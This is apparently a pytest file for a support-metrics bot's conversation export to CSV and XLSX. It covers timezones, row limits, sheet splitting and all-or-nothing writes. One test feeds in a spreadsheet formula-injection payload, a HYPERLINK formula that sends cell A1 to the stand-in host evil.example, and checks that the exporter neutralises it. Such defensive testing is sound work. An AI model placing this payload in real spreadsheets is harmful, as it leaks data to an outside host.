"""commands.export: the rows of tests/storage/test_export.py's DAY as CSV and XLSX cells (times in
Europe/Paris, UTC+1 in November), formula neutralisation, numbers left numbers, the file written whole or
not at all, the words an export takes."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest

from commands import export, export_files
from commands.errors import UsageError
from commands.export import (
    COLUMNS,
    export_conversations,
    export_format,
    file_name,
    is_export,
    neutralise,
    parse_export,
    row_cells,
)
from commands.periods import resolve_period
from storage.db import make_engine
from storage.export import ExportRow
from storage.ingest import Ingestor
from storage.settings import Settings
from tests.storage.builders import assignment, inbound
from tests.storage.test_export import day_conversations

PARIS = ZoneInfo("Europe/Paris")
NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
HEADER = (
    "id,channel,opened,first response,FRT seconds,waits,resolved,resolution seconds,agent,team,CSAT,NPS,"
    "sentiment mean,topics,reopened,link"
)
# DAY's four conversations, worked out in tests/storage/test_export.py, in Paris time
DAY_CSV = [
    HEADER,
    "tw-1,twitter,2026-11-20T10:00:00+01:00,2026-11-20T10:42:00+01:00,2520,2,2026-11-20T12:00:00+01:00,7200,"
    "Bo,Care,5,9,-0.1,delivery;praise,0,https://help.example.com/c/1",
    "fb-1,facebook,2026-11-20T10:10:00+01:00,2026-11-20T10:20:00+01:00,600,2,2026-11-20T11:00:00+01:00,3000,"
    ",,,,-0.3,refund,1,",
    "ig-1,instagram,2026-11-20T13:20:00+01:00,,,1,,,,,,,0,,0,",
    "tw-2,twitter,2026-11-20T15:00:00+01:00,2026-11-20T15:10:00+01:00,600,2,,,,,,,0.9,praise,1,",
]
_OOXML_ESCAPE = re.compile(r"_x([0-9A-F]{4})_")  # how XLSX writes control characters (\r: _x000D_)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def paris(database_url) -> Settings:
    return Settings(database_url=database_url, pseudonym_key="test-key", tz="Europe/Paris")


@pytest.fixture
def day(paris):
    engine = make_engine(paris.database_url)
    ingestor = Ingestor(engine, paris)
    for batch in day_conversations():
        result = ingestor.ingest([(n, json.dumps(e)) for n, e in enumerate(batch, 1)])
        assert not result.rejected, result.rejected
    yield engine
    engine.dispose()


@pytest.fixture
def out(tmp_path) -> Path:
    """A folder for the exports alone (the test's database lives in tmp_path)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def run(engine, settings: Settings, words: str, path: Path, **options):
    request = parse_export(words, settings, NOW, usage="`export`")
    with engine.connect() as conn:
        return export_conversations(conn, request, settings, path, **options)


def csv_lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def xlsx_rows(path: Path, sheet: int = 1) -> list[list]:
    """A sheet's rows read from the XLSX XML: inline strings as str, numbers as float, gaps as None."""
    with zipfile.ZipFile(path) as book:
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    rows = []
    for row in root.iterfind(".//x:sheetData/x:row", ns):
        cells: list = [None] * len(COLUMNS)
        for cell in row.iterfind("x:c", ns):
            column = ord(re.match(r"[A-Z]+", cell.get("r")).group()) - ord("A")
            if cell.get("t") == "inlineStr":
                text = "".join(t.text or "" for t in cell.iterfind(".//x:t", ns))
                cells[column] = _OOXML_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)
            else:
                assert cell.get("t") is None, cell.get("t")  # a number: no shared string, no formula
                assert cell.find("x:f", ns) is None
                cells[column] = float(cell.find("x:v", ns).text)
        rows.append(cells)
    return rows


def test_csv_has_the_header_and_one_row_per_conversation_of_the_period(day, paris, tmp_path):
    path = tmp_path / "day.csv"

    result = run(day, paris, "2026-11-20", path)

    assert (result.rows, result.matched, result.capped) == (4, 4, False)
    assert csv_lines(path) == DAY_CSV
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 without a byte-order mark


def test_channels_and_period_words_choose_the_rows(day, paris, tmp_path):
    twitter, fb_ig, week_before = tmp_path / "t.csv", tmp_path / "f.csv", tmp_path / "w.csv"

    run(day, paris, "x 2026-11-20", twitter)  # `x` is twitter's alias
    run(day, paris, "fb ig 2026-11-20", fb_ig)
    result = run(day, paris, "2026-11-13..2026-11-19", week_before)

    assert csv_lines(twitter) == [HEADER, DAY_CSV[1], DAY_CSV[4]]
    assert csv_lines(fb_ig) == [HEADER, DAY_CSV[2], DAY_CSV[3]]
    # tw-0 opened Thursday 10:00 Paris time, and got a CSAT of 1 on Friday
    assert result.rows == 1
    assert csv_lines(week_before)[1].startswith("tw-0,twitter,2026-11-19T10:00:00+01:00,")
    assert csv_lines(week_before)[1].split(",")[10] == "1"


def test_xlsx_holds_the_same_rows_with_numbers_as_numbers(day, paris, tmp_path):
    path = tmp_path / "day.xlsx"

    result = run(day, paris, "2026-11-20", path)
    rows = xlsx_rows(path)

    assert result.rows == 4
    assert rows[0] == list(COLUMNS)
    assert rows[1] == [
        "tw-1", "twitter", "2026-11-20T10:00:00+01:00", "2026-11-20T10:42:00+01:00", 2520.0, 2.0,
        "2026-11-20T12:00:00+01:00", 7200.0, "Bo", "Care", 5.0, 9.0, -0.1, "delivery;praise", 0.0,
        "https://help.example.com/c/1",
    ]  # fmt: skip
    assert rows[3] == ["ig-1", "instagram", "2026-11-20T13:20:00+01:00", None, None, 1.0] + [None] * 6 + [
        0.0,
        None,
        0.0,
        None,
    ]
    # the same cells as the CSV, read back as text
    assert [_as_csv(row) for row in rows] == [list(r) for r in csv.reader(DAY_CSV)]


def _as_csv(row: list) -> list[str]:
    return ["" if cell is None else (f"{cell:g}" if isinstance(cell, float) else cell) for cell in row]


def test_text_that_starts_like_a_formula_is_neutralised_in_csv_and_xlsx(paris, database_url, tmp_path):
    engine = make_engine(database_url)
    events = [
        {**inbound("e1", 0, conv="+33612345678", channel="whatsapp", text="I love it"), "link": "@SUM(1+1)"},
        assignment("e2", 1, conv="+33612345678", channel="whatsapp", agent=EVIL, team="-ops"),
        {**inbound("e3", 2, conv="tw-9", text="my parcels never arrived, terrible"), "link": "\thttp://x"},
        assignment("e4", 3, conv="tw-9", agent="\rBo", team="+1 team"),
    ]
    assert not Ingestor(engine, paris).ingest([(n, json.dumps(e)) for n, e in enumerate(events, 1)]).rejected
    request = parse_export("2026-11-20", paris, NOW, usage="")
    with engine.connect() as conn:
        export_conversations(conn, request, paris, tmp_path / "evil.csv")
        export_conversations(conn, request, paris, tmp_path / "evil.xlsx")
    engine.dispose()

    with (tmp_path / "evil.csv").open(encoding="utf-8", newline="") as stream:
        found = list(csv.reader(stream))
    xlsx = xlsx_rows(tmp_path / "evil.xlsx")
    # id, agent, team, link neutralised; the negative sentiment mean -1 of tw-9 is a number, untouched
    expected = [
        ["'+33612345678", "'" + EVIL, "'-ops", "'@SUM(1+1)", "0.8"],
        ["tw-9", "'\rBo", "'+1 team", "'\thttp://x", "-1"],
    ]
    assert [[row[0], row[8], row[9], row[15], row[12]] for row in found[1:]] == expected
    assert [[row[0], row[8], row[9], row[15], row[12]] for row in xlsx[1:]] == [
        [*expected[0][:4], 0.8],
        [*expected[1][:4], -1.0],
    ]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@handle", "'@handle"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_neutralise_prefixes_a_quote_to_formula_starts_only(text, shown):
    assert neutralise(text) == shown


def test_cells_neutralise_every_text_column_and_leave_numbers_alone():
    row = ExportRow(
        id=1, source="=src", external_id="-7", channel="@chan",
        opened_at=datetime(2026, 3, 29, 0, 59, 30, tzinfo=UTC),  # 01:59:30 CET, just before the change
        first_response_at=datetime(2026, 3, 29, 1, 0, 0, 999999, tzinfo=UTC),  # 03:00:00 CEST
        frt_seconds=30.9999, waits=3, resolved_at=None, resolution_seconds=None, agent="+agent",
        team="=team", csat=4.0, nps=0.0, sentiment=-0.5, topics=("=cmd", "delivery"), reopen_count=2,
        link="-link",
    )  # fmt: skip

    xlsx = row_cells(PARIS, qualified=True)(row)
    text = row_cells(PARIS, kind="csv")(row)

    assert xlsx == [
        "'=src:-7", "'@chan", "2026-03-29T01:59:30+01:00", "2026-03-29T03:00:00+02:00", 31.0, 3, None, None,
        "'+agent", "'=team", 4.0, 0.0, -0.5, "'=cmd;delivery", 2, "'-link",
    ]  # fmt: skip
    assert text[0] == "'-7"  # one source: the id alone
    assert text[4] == "31" and text[10:13] == ["4", "0", "-0.5"]  # numbers' text, never a quote


def test_times_keep_their_offset_across_a_clock_change():
    time = row_cells(ZoneInfo("America/New_York"))
    moments = [datetime(2026, 11, 1, 5, 59, 59, tzinfo=UTC), datetime(2026, 11, 1, 6, 0, 1, tzinfo=UTC)]
    empty = (None, None, 0, None, None, None, None, None, None, None, (), 0, None)
    rows = [ExportRow(1, "s", "e", "c", moment, *empty) for moment in moments]

    assert [time(row)[2] for row in rows] == ["2026-11-01T01:59:59-04:00", "2026-11-01T01:00:01-05:00"]


def test_ids_carry_their_source_once_the_database_holds_two(day, paris, tmp_path):
    Ingestor(day, paris).ingest([(1, json.dumps(inbound("h1", 30, conv="tw-1")))], source="helpdesk")
    path = tmp_path / "two.csv"

    run(day, paris, "twitter 2026-11-20", path)

    ids = [line.split(",")[0] for line in csv_lines(path)]
    assert ids == ["id", "kpibot:tw-1", "kpibot:tw-2", "helpdesk:tw-1"]


def test_a_limit_keeps_the_first_rows_and_says_it_was_reached(day, paris, tmp_path):
    path = tmp_path / "two.csv"

    result = run(day, paris, "2026-11-20", path, limit=2)

    assert (result.rows, result.matched, result.capped) == (2, 4, True)
    assert csv_lines(path) == DAY_CSV[:3]


def test_an_empty_period_writes_the_header_alone(day, paris, tmp_path):
    path = tmp_path / "none.xlsx"

    result = run(day, paris, "2026-11-01", path)

    assert (result.rows, result.matched, result.capped) == (0, 0, False)
    assert xlsx_rows(path) == [list(COLUMNS)]


def test_progress_is_reported_from_zero_to_the_total(day, paris, tmp_path, monkeypatch):
    monkeypatch.setattr(export, "PROGRESS_EVERY", 2)
    calls = []

    run(day, paris, "2026-11-20", tmp_path / "p.csv", progress=lambda *report: calls.append(report))

    assert calls == [(0, 4), (2, 4), (4, 4), (4, 4)]


def test_rows_past_a_sheet_go_on_to_the_next_with_the_header(day, paris, tmp_path, monkeypatch):
    monkeypatch.setattr(export_files, "XLSX_MAX_ROWS", 3)  # a header and two rows a sheet
    path = tmp_path / "sheets.xlsx"

    run(day, paris, "2026-11-20", path)

    first, second = xlsx_rows(path, 1), xlsx_rows(path, 2)
    assert [row[0] for row in first] == ["id", "tw-1", "fb-1"]
    assert [row[0] for row in second] == ["id", "ig-1", "tw-2"]
    with zipfile.ZipFile(path) as book:
        assert b'name="conversations 2"' in book.read("xl/workbook.xml")


def test_a_failed_export_leaves_no_file_and_the_previous_one_untouched(day, paris, out, monkeypatch):
    path = out / "day.csv"
    path.write_text("yesterday's export", encoding="utf-8")
    rows = export.conversation_rows

    def failing(*args, **kwargs):
        with closing(rows(*args, **kwargs)) as iterator:  # closed now, not by a later garbage collection
            yield next(iterator)
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "conversation_rows", failing)

    with pytest.raises(OSError):
        run(day, paris, "2026-11-20", path)
    assert path.read_text(encoding="utf-8") == "yesterday's export"
    assert sorted(p.name for p in out.iterdir()) == ["day.csv"]  # no temporary file left


@pytest.mark.parametrize("name", ["out.txt", "out", "out.csv.gz", "out.xls"])
def test_an_unknown_suffix_is_a_usage_error_naming_csv_and_xlsx(day, paris, out, name):
    with pytest.raises(UsageError, match=r"\.csv or \.xlsx"):
        run(day, paris, "2026-11-20", out / name)
    assert list(out.iterdir()) == []


def test_the_suffix_names_the_format_whatever_its_case():
    assert [export_format(Path(n)) for n in ("a.csv", "b.XLSX", "c.Csv")] == ["csv", "xlsx", "csv"]


def test_an_export_reads_channels_and_a_period_with_the_kpi_grammar(paris):
    request = parse_export("twitter ig 30d", paris, NOW, usage="")
    every = parse_export("all", paris, NOW, usage="")

    assert request.channels == ("twitter", "instagram") and request.period_word == "30d"
    assert request.period == resolve_period("30d", NOW, PARIS)
    assert every.channels == () and every.period_word == "7d"  # the /kpi default
    assert parse_export("help", paris, NOW, usage="") is None


@pytest.mark.parametrize(
    ("words", "message"),
    [
        ("twiter 7d", "did you mean `twitter`?"),
        ("7d 30d", "two periods"),
        ("frt 7d", "channels and a period only: `/kpi export`"),
        ("twitter by agent", "channels and a period only"),
        ("7d bh", "business hours are not configured"),
        ("7d public", "channels and a period only"),
    ],
)
def test_anything_but_channels_and_a_period_is_refused(paris, words, message):
    with pytest.raises(UsageError, match=re.escape(message)):
        parse_export(words, paris, NOW, usage="`/kpi export`")


def test_export_is_the_first_word_of_an_export_command():
    assert is_export("export 7d") and is_export("EXPORT") and is_export("  export twitter")
    assert not is_export("exports") and not is_export("frt export") and not is_export("")


def test_the_file_name_has_the_first_and_last_local_day():
    week = parse_export("7d", Settings(tz="Europe/Paris"), NOW, usage="")
    day = parse_export("2026-11-20", Settings(tz="Europe/Paris"), NOW, usage="")

    assert file_name(week) == "kpibot-conversations-2026-11-14-2026-11-21.csv"
    assert file_name(day, "xlsx") == "kpibot-conversations-2026-11-20-2026-11-20.xlsx"
